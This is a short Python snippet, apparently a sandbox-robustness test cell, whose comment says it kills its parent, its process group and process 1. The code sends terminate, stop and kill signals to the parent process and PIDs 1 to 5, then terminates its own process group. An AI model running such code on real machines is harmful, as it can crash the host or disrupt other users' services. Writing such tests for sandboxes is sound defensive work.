# Kill its parent, its group and process 1.
# cell: start
# ruff: noqa
# fmt: off

import os, signal
for pid in (os.getppid(), 1, 2, 3, 4, 5):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid not in (0, os.getpid()):
                os.kill(pid, number)
        except OSError:
            pass
try:
    os.killpg(0, signal.SIGTERM)
except OSError:
    pass
